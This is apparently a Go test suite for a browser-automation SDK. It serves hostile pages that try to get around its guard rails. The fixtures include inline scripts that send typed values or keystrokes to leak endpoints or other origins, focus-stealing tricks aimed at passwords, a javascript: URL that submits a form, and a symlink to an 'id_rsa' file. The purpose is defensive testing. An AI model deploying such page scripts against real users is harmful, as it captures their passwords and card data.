package guards

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"image/png"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/surefill/surefill"
	"github.com/surefill/surefill/formsnap"
	"github.com/surefill/surefill/internal/livetest"
)

// Hostile pages: each tries to walk around a guard rail between surefill's
// check and its act. They are judged by what their own servers received
// and by what a second CDP connection reads from the page, never by what
// surefill returns alone.

// Case 1: sites checked where the input lands, not once at the start.
func TestAttackSites(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		// The field appears only on the other site, after a navigation
		// the page starts while Fill waits for it.
		"/late-nav":   `<!doctype html><title>late</title><script>setTimeout(() => { location.href = '{{B}}/catch-name'; }, 300);</script>`,
		"/catch-name": `<!doctype html><label>Name <input id=n oninput="fetch('/leak?v=' + this.value)"></label>`,
		// Typing into the field navigates to the other site.
		"/input-nav": `<!doctype html><label>Name <input id=n oninput="location.href = '{{B}}/caught?v=' + this.value"></label>`,
		// A choice in a custom list navigates away.
		"/option-nav": `<!doctype html><label id=l>Plan</label>
<div role=combobox aria-labelledby=l aria-controls=lb aria-expanded=true tabindex=0>Pick</div>
<ul role=listbox id=lb><li role=option onclick="location.href='{{B}}/caught-option'">Pro</li><li role=option>Basic</li></ul>`,
		// A granted page framing the other site, whose srcdoc frame
		// inherits its origin.
		"/frames":      `<!doctype html><p>top</p><iframe src="{{B}}/srcdoc-host" width=600 height=300></iframe>`,
		"/srcdoc-host": `<!doctype html><iframe width=500 height=200 srcdoc="<label>Card holder <input oninput=&quot;fetch('/leak-srcdoc?v=' + this.value)&quot;></label>"></iframe>`,
	})
	t.Run("navigation while waiting", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/late-nav")
		_, err := tab.Fill(ctx, surefill.Label("Name"), "Mallory-1", &surefill.FillOptions{Timeout: livetest.Quick})
		livetest.WantCode(t, "Fill", err, surefill.NotPermitted)
		h.None(t, "the other site", "/catch-name")
		h.None(t, "the other site", "Mallory-1")
	})
	t.Run("navigation from an input handler", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/input-nav")
		_, err := tab.Fill(ctx, surefill.Label("Name"), "Mallory-2", nil)
		livetest.WantCode(t, "Fill", err, surefill.NotPermitted)
		h.None(t, "the other site", "/caught")
	})
	t.Run("navigation from an option click", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/option-nav")
		err := tab.Click(ctx, surefill.Role("option", "Pro"))
		livetest.WantCode(t, "Click", err, surefill.NotPermitted)
		h.None(t, "the other site", "/caught-option")
	})
	t.Run("srcdoc frame of a site not granted", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/frames")
		var f *surefill.Frame
		var err error
		for f == nil && ctx.Err() == nil {
			f, err = tab.Frame(ctx, "about:srcdoc")
			if err != nil {
				t.Fatal(err)
			}
		}
		_, err = f.Fill(ctx, surefill.Label("Card holder"), "Mallory-3", nil)
		livetest.WantCode(t, "Fill", err, surefill.NotPermitted)
		h.None(t, "the srcdoc frame", "/leak-srcdoc")
	})
}

// Case 2: URL schemes and redirects.
func TestAttackSchemes(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		"/form": `<!doctype html><form method=post action=/posted><input name=q value=secret-q></form>`,
	})
	for _, c := range []struct {
		g     surefill.Grants
		check bool
	}{
		{surefill.Grants{Allow: []surefill.Grant{surefill.Forms}, Sites: []string{"127.0.0.1"}}, false},
		{surefill.Grants{Allow: []surefill.Grant{surefill.Forms}, Sites: []string{"127.0.0.1"}}, true},
		// No page-js, no forms grant and no Sites: the scheme rule alone.
		{surefill.Grants{}, false},
		{surefill.Grants{}, true},
	} {
		b := livetest.Connect(t, surefill.Options{Grants: c.g, CheckMode: c.check})
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		tab, err := b.NewTab(ctx, h.A+"/form")
		if err != nil {
			t.Fatal(err)
		}
		err = tab.Goto(ctx, "javascript:document.title='x';document.forms[0].submit()")
		livetest.WantCode(t, "Goto javascript:", err, surefill.NotPermitted)
		_, err = b.NewTab(ctx, "javascript:document.title='x'")
		livetest.WantCode(t, "NewTab javascript:", err, surefill.NotPermitted)
		dir := t.TempDir()
		file := filepath.Join(dir, "private.html")
		os.WriteFile(file, []byte("<p>private</p>"), 0o600)
		err = tab.Goto(ctx, "file://"+file)
		livetest.WantCode(t, "Goto file:", err, surefill.NotPermitted)
		if len(c.g.Sites) > 0 {
			err = tab.Goto(ctx, h.A+"/redirect-out")
			livetest.WantCode(t, "a redirect out of Sites", err, surefill.NotPermitted)
		}
		if title, err := tab.Title(ctx); err != nil || title == "x" {
			t.Errorf("a javascript: URL ran: title %q, %v", title, err)
		}
	}
	h.None(t, "the form", "POST")
	h.None(t, "the redirect target", "/landing")
}

// Case 3: submissions the window submit listener could not see.
func TestAttackSubmissions(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		"/next": `<!doctype html><form method=post action=/sent-next><label>Name <input name=n></label>
<button type=button onclick="this.form.submit()">Next</button></form>`,
		"/filter": `<!doctype html><form action=/sent-filter><label>Sort <select name=s onchange="this.form.submit()"><option>Newest</option><option>Oldest</option></select></label></form>`,
		"/shadow": `<!doctype html><div id=host></div><script>
const r = document.getElementById('host').attachShadow({mode: 'open'});
r.innerHTML = '<form method=post action=/sent-shadow><label>Query <input name=q></label><button>Go</button> <button type=button id=rs>Later</button></form>';
r.getElementById('rs').onclick = () => r.querySelector('form').requestSubmit();
</script>`,
		"/frame-submit": `<!doctype html><iframe srcdoc="<form method=post action=/sent-frame><input name=z value=1></form>"></iframe>
<button onclick="frames[0].document.forms[0].submit()">Continue</button>`,
		"/get-nav": `<!doctype html><form id=f><label>Search <input name=query></label></form>
<button onclick="location.href = '/sent-get?' + new URLSearchParams(new FormData(document.getElementById('f')))">Search now</button>`,
		"/do": `<!doctype html><form method=post action=/sent-do><input name=x value=1><button type=submit>Proceed</button></form>`,
	})
	t.Run("form.submit from a Next button", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/next")
		livetest.WantCode(t, "Click", tab.Click(ctx, surefill.Role("button", "Next")), surefill.NotPermitted)
		h.None(t, "Next", "/sent-next")
	})
	t.Run("a select that submits on change", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/filter")
		_, err := tab.Fill(ctx, surefill.Label("Sort"), "Oldest", nil)
		livetest.WantCode(t, "Fill", err, surefill.NotPermitted)
		h.None(t, "filter", "/sent-filter")
	})
	t.Run("shadow root submit, requestSubmit and Enter", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/shadow")
		livetest.WantCode(t, "Click Go", tab.Click(ctx, surefill.Role("button", "Go")), surefill.NotPermitted)
		livetest.WantCode(t, "Click Later", tab.Click(ctx, surefill.Role("button", "Later")), surefill.NotPermitted)
		if _, err := tab.Fill(ctx, surefill.Label("Query"), "q1", nil); err != nil {
			t.Fatal(err)
		}
		if err := tab.Click(ctx, surefill.Label("Query")); err != nil {
			t.Fatal(err)
		}
		livetest.WantCode(t, "Press Enter", tab.Press(ctx, "Enter"), surefill.NotPermitted)
		h.None(t, "shadow", "/sent-shadow")
	})
	t.Run("a click that submits a child frame's form", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/frame-submit")
		livetest.WantCode(t, "Click", tab.Click(ctx, surefill.Role("button", "Continue")), surefill.NotPermitted)
		h.None(t, "frame", "/sent-frame")
	})
	t.Run("a navigation carrying the form's data", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/get-nav")
		if _, err := tab.Fill(ctx, surefill.Label("Search"), "needle", nil); err != nil {
			t.Fatal(err)
		}
		livetest.WantCode(t, "Click", tab.Click(ctx, surefill.Role("button", "Search now")), surefill.NotPermitted)
		h.None(t, "GET", "/sent-get")
	})
	t.Run("Do activate", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/do")
		snap, err := tab.Snapshot(ctx)
		if err != nil {
			t.Fatal(err)
		}
		var act *surefill.ControlAction
		for _, f := range snap.Forms {
			for _, c := range f.Controls {
				if c.Label == "Proceed" && c.Target != nil {
					a := surefill.ControlAction{Target: *c.Target}
					a.Operation.Kind = "activate"
					act = &a
				}
			}
		}
		if act == nil {
			t.Fatalf("no Proceed control in %+v", snap.Forms)
		}
		_, err = tab.Do(ctx, *act)
		livetest.WantCode(t, "Do", err, surefill.NotPermitted)
		h.None(t, "Do", "/sent-do")
	})
}

// Case 3, continued: one yes covers one submission, in any tab; Reload
// does not send a post again without one.
func TestAttackOneYesOneSubmission(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		"/two": `<!doctype html><form method=post action=/sent-once><input name=x value=1></form>
<button onclick="document.forms[0].submit()">Continue</button>`,
	})
	g := surefill.Grants{Allow: []surefill.Grant{surefill.Submit}, Sites: []string{"127.0.0.1"}}
	b := livetest.Connect(t, surefill.Options{Grants: g, Confirmer: surefill.ConfirmFunc(func(context.Context, string) (bool, error) { return true, nil })})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	tab, err := b.NewTab(ctx, h.A+"/two")
	if err != nil {
		t.Fatal(err)
	}
	other, err := b.NewTab(ctx, h.A+"/two")
	if err != nil {
		t.Fatal(err)
	}
	if !b.Confirm(ctx, "send the form once?") {
		t.Fatal("the confirmer said no")
	}
	if err := tab.Click(ctx, surefill.Role("button", "Continue")); err != nil {
		t.Fatal(err)
	}
	if err := tab.WaitFor(ctx, surefill.Text("received"), nil); err != nil {
		t.Fatal(err)
	}
	livetest.WantCode(t, "a second submission in another tab", other.Click(ctx, surefill.Role("button", "Continue")), surefill.NotPermitted)
	livetest.WantCode(t, "Reload of the post's answer", tab.Reload(ctx), surefill.NotPermitted)
	if got := h.Received("POST", "/sent-once"); len(got) != 1 {
		t.Errorf("the server received %d posts, want 1: %q", len(got), got)
	}
}

// Case 4: focus moved between the check and the typing.
func TestAttackFocus(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		"/steal": `<!doctype html><label>Password <input id=pw type=password></label>
<label>Comment <input id=comment></label>
<script>document.getElementById('pw').addEventListener('focus', () => queueMicrotask(() => document.getElementById('comment').focus()));</script>`,
		"/keydown": `<!doctype html><label>Email <input id=em type=email value="old@example.com" autocomplete=current-password></label>
<label>Comment <input id=comment></label>
<script>document.getElementById('em').addEventListener('keydown', () => queueMicrotask(() => document.getElementById('comment').focus()));</script>`,
		"/to-frame": `<!doctype html><label>Card number <input id=cc autocomplete=cc-number></label>
<iframe id=fr src="{{B}}/frame-input"></iframe>
<script>document.getElementById('cc').addEventListener('focus', () => queueMicrotask(() => document.getElementById('fr').focus()));</script>`,
		"/frame-input": `<!doctype html><input id=x autofocus oninput="fetch('/leak-frame?v=' + this.value)"><script>addEventListener('keydown', (e) => fetch('/leak-key?k=' + e.key));</script>`,
	})
	t.Run("microtask moves focus to a public field", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/steal")
		_, err := tab.Fill(ctx, surefill.Label("Password"), "Sekr3t-steal", nil)
		livetest.WantCode(t, "Fill", err, surefill.Covered)
		if err != nil && strings.Contains(err.Error(), "Sekr3t") {
			t.Errorf("the error holds the secret: %v", err)
		}
		if v := livetest.Peek(t, "/steal", "document.getElementById('comment').value"); v != "" {
			t.Errorf("the comment field holds %q", v)
		}
		fs, err := tab.Fields(ctx, nil)
		if err != nil {
			t.Fatal(err)
		}
		if b, _ := json.Marshal(fs); strings.Contains(string(b), "Sekr3t") {
			t.Errorf("Fields lists the secret: %s", b)
		}
	})
	t.Run("keydown moves focus", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/keydown")
		_, err := tab.Fill(ctx, surefill.Label("Email"), "Sekr3t-key", nil)
		livetest.WantCode(t, "Fill", err, surefill.Covered)
		if v := livetest.Peek(t, "/keydown", "document.getElementById('comment').value"); v != "" {
			t.Errorf("the comment field holds %q", v)
		}
	})
	t.Run("focus moved into a frame of a site not granted", func(t *testing.T) {
		tab, ctx, _ := h.Open(t, "/to-frame")
		_, err := tab.Fill(ctx, surefill.Label("Card number"), "4111111111111111", nil)
		livetest.WantCode(t, "Fill", err, surefill.Covered, surefill.NotPermitted)
		h.None(t, "the framed site", "/leak-frame")
		h.None(t, "the framed site", "/leak-key")
	})
}

// Case 5: concurrent calls on one tab never interleave their input.
func TestAttackConcurrentFills(t *testing.T) {
	var page strings.Builder
	page.WriteString("<!doctype html>")
	for i := range 20 {
		fmt.Fprintf(&page, "<label>Field %d <input id=f%d></label><br>", i, i)
	}
	h := livetest.NewHostile(t, map[string]string{"/many": page.String()})
	tab, ctx, _ := h.Open(t, "/many")
	var wg sync.WaitGroup
	errs := make([]error, 20)
	for i := range 20 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, errs[i] = tab.Fill(ctx, surefill.Label(fmt.Sprintf("Field %d", i)), fmt.Sprintf("value-%02d", i), nil)
		}()
	}
	wg.Wait()
	got := livetest.Peek(t, "/many", "Array.from(document.querySelectorAll('input'), (i) => i.value)")
	vals, _ := got.([]any)
	for i := range 20 {
		if errs[i] != nil {
			t.Errorf("fill %d: %v", i, errs[i])
		}
		if i >= len(vals) || vals[i] != fmt.Sprintf("value-%02d", i) {
			t.Errorf("field %d holds %v", i, vals)
			break
		}
	}
}

// Case 7: uploads.
func TestAttackUploads(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{"/up": `<!doctype html><label>CV <input type=file id=cv></label>`})
	root := t.TempDir()
	outside := t.TempDir()
	fifo := filepath.Join(root, "cv.pdf")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(outside, "id_rsa")
	os.WriteFile(secret, []byte("key"), 0o600)
	link := filepath.Join(root, "link.pdf")
	os.Symlink(secret, link)
	g := surefill.Grants{Allow: []surefill.Grant{surefill.Forms}, Sites: []string{"127.0.0.1"}, Read: []string{root}}
	b := livetest.Connect(t, surefill.Options{Grants: g})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	tab, err := b.NewTab(ctx, h.A+"/up")
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	_, err = tab.Upload(ctx, surefill.Label("CV"), fifo)
	livetest.WantCode(t, "a FIFO", err, surefill.NotFound)
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("the FIFO held the call %v", d)
	}
	_, err = tab.Upload(ctx, surefill.Label("CV"), link)
	livetest.WantCode(t, "a link out of the roots", err, surefill.NotPermitted)
	_, errMissing := tab.Upload(ctx, surefill.Label("CV"), filepath.Join(outside, "missing"))
	_, errExisting := tab.Upload(ctx, surefill.Label("CV"), secret)
	if surefill.CodeOf(errMissing) != surefill.NotPermitted || surefill.CodeOf(errExisting) != surefill.NotPermitted {
		t.Errorf("outside the roots: missing %v, existing %v (want not_permitted for both)", errMissing, errExisting)
	}
	if n := livetest.Peek(t, "/up", "document.getElementById('cv').files.length"); n != float64(0) {
		t.Errorf("the input holds %v files", n)
	}
}

// Case 6: secrets belong to the field, not to the node, and are scrubbed
// wherever the page echoes them.
func TestAttackSecrets(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		"/secrets": `<!doctype html><form>
<label for=pw>Password</label><input id=pw name=pw type=password>
<button type=button id=show onclick="const o=document.getElementById('pw'); const n=document.createElement('input'); n.id='pw'; n.name='pw'; n.type='text'; n.value=o.value; o.replaceWith(n);">Show password</button>
<label for=pin>PIN</label><input id=pin name=pin onfocus="this.type='password'">
<label for=rr>Passphrase</label><input id=rr name=rr type=password onblur="const n=this.cloneNode(); n.value=this.value; n.type='text'; this.replaceWith(n);">
<div id=ans-l>Secret answer</div><div id=ans contenteditable role=textbox aria-labelledby=ans-l></div>
<label for=cc>Card number</label><input id=cc name=cc autocomplete=cc-number style="font-size:28px;width:420px">
<p>You typed: <span id=echo></span></p><meter id=meter data-strength=""></meter>
</form><script>
for (const id of ['pw', 'pin', 'rr']) document.addEventListener('input', (e) => {
  if (e.target.id === id) { document.getElementById('echo').textContent = e.target.value; document.getElementById('meter').dataset.strength = e.target.value; }
});
</script>`,
	})
	secrets := map[string]string{"Password": "Hunter2-Toggle", "PIN": "Pin-5150-Focus", "Passphrase": "Rerender-Pass-77", "Card number": "4242424242424242"}
	tab, ctx, b := h.Open(t, "/secrets")
	var out strings.Builder
	record := func(v ...any) {
		for _, x := range v {
			fmt.Fprintf(&out, "%v\n%+v\n", x, x)
			if j, err := json.Marshal(x); err == nil {
				out.Write(j)
			}
		}
	}
	for label, v := range secrets {
		f, err := tab.Fill(ctx, surefill.Label(label), v, nil)
		record(f, err)
	}
	f, err := tab.Fill(ctx, surefill.Label("Secret answer"), "Answer-Is-Mauve", &surefill.FillOptions{Sensitive: true})
	record(f, err)
	secrets["Secret answer"] = "Answer-Is-Mauve"
	if err := tab.Click(ctx, surefill.Role("button", "Show password")); err != nil {
		t.Fatal(err)
	}
	if got := livetest.Peek(t, "/secrets", "document.getElementById('pw').type + ' ' + document.getElementById('pw').value"); got != "text Hunter2-Toggle" {
		t.Fatalf("the toggle did not show the password: %v", got)
	}
	fs, err := tab.Fields(ctx, nil)
	record(fs, err)
	snap, err := tab.Snapshot(ctx)
	record(snap, err)
	html, err := tab.Save(ctx)
	record(string(html), err)
	text, err := tab.Text(ctx, surefill.CSS("#echo"))
	record(text, err)
	attr, _, err := tab.Attr(ctx, surefill.CSS("#meter"), "data-strength")
	record(attr, err)
	_, err = tab.Fill(ctx, surefill.Label("Nowhere "+secrets["PIN"]), "x", &surefill.FillOptions{Timeout: 200 * time.Millisecond})
	record(err)
	for label, v := range secrets {
		if strings.Contains(out.String(), v) {
			i := strings.Index(out.String(), v)
			t.Errorf("the %s secret appears in the SDK's output: …%s…", label, out.String()[max(0, i-120):min(len(out.String()), i+40)])
		}
	}
	// The screenshot paints the card number over; without the mask it
	// shows.
	box := livetest.Peek(t, "/secrets", "(() => { const r = document.getElementById('cc').getBoundingClientRect(); return [r.left, r.top, r.width, r.height]; })()")
	shot, err := tab.Screenshot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if dark := darkShare(t, shot, box); dark < 0.99 {
		t.Errorf("the card field is %.0f%% painted over in the screenshot", dark*100)
	}
	plain := livetest.Connect(t, surefill.Options{Grants: surefill.Grants{Allow: []surefill.Grant{surefill.Forms}}, UnmaskedScreenshots: true})
	tabs, err := plain.Tabs(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, other := range tabs {
		if u, _ := other.URL(ctx); strings.HasSuffix(u, "/secrets") {
			shot, err := other.Screenshot(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if dark := darkShare(t, shot, box); dark > 0.9 {
				t.Errorf("unmasked, the card field is still %.0f%% dark", dark*100)
			}
		}
	}
	_ = b
}

// darkShare is the share of near-black pixels in a box of a PNG.
func darkShare(t *testing.T, shot []byte, box any) float64 {
	t.Helper()
	img, err := png.Decode(bytes.NewReader(shot))
	if err != nil {
		t.Fatal(err)
	}
	r, _ := box.([]any)
	if len(r) != 4 {
		t.Fatalf("box %v", box)
	}
	x0, y0 := int(r[0].(float64))+2, int(r[1].(float64))+2
	x1, y1 := int(r[0].(float64)+r[2].(float64))-2, int(r[1].(float64)+r[3].(float64))-2
	dark, all := 0, 0
	for y := y0; y < y1; y++ {
		for x := x0; x < x1; x++ {
			cr, cg, cb, _ := img.At(x, y).RGBA()
			all++
			if cr < 0x1000 && cg < 0x1000 && cb < 0x1000 {
				dark++
			}
		}
	}
	if all == 0 {
		t.Fatal("an empty box")
	}
	return float64(dark) / float64(all)
}

// Dialogs never freeze a tab: dismissed (beforeunload accepted) by
// default, answered by Options.Dialog when given, logged either way.
func TestDialogsNeverFreeze(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		"/dialogs": `<!doctype html><p id=out>none</p>
<button onclick="alert('Hello there')">Alert me</button>
<button onclick="document.getElementById('out').textContent = 'confirm=' + confirm('Sure?')">Ask me</button>
<button onclick="document.getElementById('out').textContent = 'prompt=' + prompt('Your name?', 'x')">Name me</button>
<button onclick="onbeforeunload = (e) => { e.preventDefault(); return 'stay'; }; document.getElementById('out').textContent = 'armed'">Arm</button>
<label>Email <input id=email></label>`,
	})
	for _, answer := range []bool{false, true} {
		var logs livetest.SyncBuffer
		o := surefill.Options{Grants: surefill.Grants{Allow: []surefill.Grant{surefill.Forms}, Sites: []string{"127.0.0.1"}}, Logger: slog.New(slog.NewJSONHandler(&logs, nil))}
		if answer {
			o.Dialog = func(kind, message, def string) (bool, string) { return true, "Ada" }
		}
		b := livetest.Connect(t, o)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		tab, err := b.NewTab(ctx, h.A+"/dialogs")
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"Alert me", "Ask me", "Name me"} {
			if err := tab.Click(ctx, surefill.Role("button", name)); err != nil {
				t.Fatalf("answer %v, %s: %v", answer, name, err)
			}
			if name == "Ask me" {
				want := "confirm=" + fmt.Sprint(answer)
				if got := livetest.Peek(t, "/dialogs", "document.getElementById('out').textContent"); got != want {
					t.Errorf("after the confirm the page says %v, want %s", got, want)
				}
			}
		}
		want := "prompt=null"
		if answer {
			want = "prompt=Ada"
		}
		if got := livetest.Peek(t, "/dialogs", "document.getElementById('out').textContent"); got != want {
			t.Errorf("after the prompt the page says %v, want %s", got, want)
		}
		// The tab still works, and a page that asks to stay does not
		// hold a navigation the script makes.
		if _, err := tab.Fill(ctx, surefill.Label("Email"), "ada@example.org", nil); err != nil {
			t.Fatal(err)
		}
		if err := tab.Click(ctx, surefill.Role("button", "Arm")); err != nil {
			t.Fatal(err)
		}
		if err := tab.Goto(ctx, h.A+"/after-dialogs"); err != nil {
			t.Fatalf("Goto from a page with a beforeunload handler: %v", err)
		}
		for _, kind := range []string{`"type":"alert"`, `"type":"confirm"`, `"type":"prompt"`, `"message":"Hello there"`} {
			if !strings.Contains(logs.String(), kind) {
				t.Errorf("the log lacks the dialog %s:\n%s", kind, logs.String())
			}
		}
	}
}

// Failures a page or a script causes are typed: a malformed action, and a
// call on a page whose main thread never answers again.
func TestFailuresAreTyped(t *testing.T) {
	h := livetest.NewHostile(t, map[string]string{
		"/busy": `<!doctype html><label>Email <input></label><button onclick="for (;;) {}">Freeze</button>`,
	})
	// Its own site (localhost), so the frozen renderer is no other test's.
	local := strings.Replace(h.A, "127.0.0.1", "localhost", 1)
	b := livetest.Connect(t, surefill.Options{Grants: surefill.Grants{Allow: []surefill.Grant{surefill.Forms}, Sites: []string{"localhost"}}})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	tab, err := b.NewTab(ctx, local+"/busy")
	if err != nil {
		t.Fatal(err)
	}
	defer tab.Close(context.Background())
	var fe *surefill.FieldError
	_, err = tab.Do(ctx, surefill.ControlAction{Target: formsnap.Target{Role: "textbox", Name: "Email"}})
	if !errors.As(err, &fe) || fe.Code != surefill.NoOption {
		t.Errorf("a malformed action: %v", err)
	}
	// The click's handler freezes the page for good: the click never gets
	// its answer, and neither does any call after it. (The click's bound
	// leaves a loaded machine time to dispatch it: a click cut short
	// before its input would leave the page free.)
	first, cancel1 := context.WithTimeout(ctx, 3*time.Second)
	defer cancel1()
	if err := tab.Click(first, surefill.Role("button", "Freeze")); !errors.As(err, &fe) || fe.Code != surefill.Timeout {
		t.Fatalf("the click into a handler that never returns: %v", err)
	}
	short, cancel2 := context.WithTimeout(ctx, 500*time.Millisecond)
	defer cancel2()
	_, err = tab.Fields(short, nil)
	if !errors.As(err, &fe) || fe.Code != surefill.Timeout {
		t.Errorf("a call while the page's main thread is blocked: %v", err)
	}
}
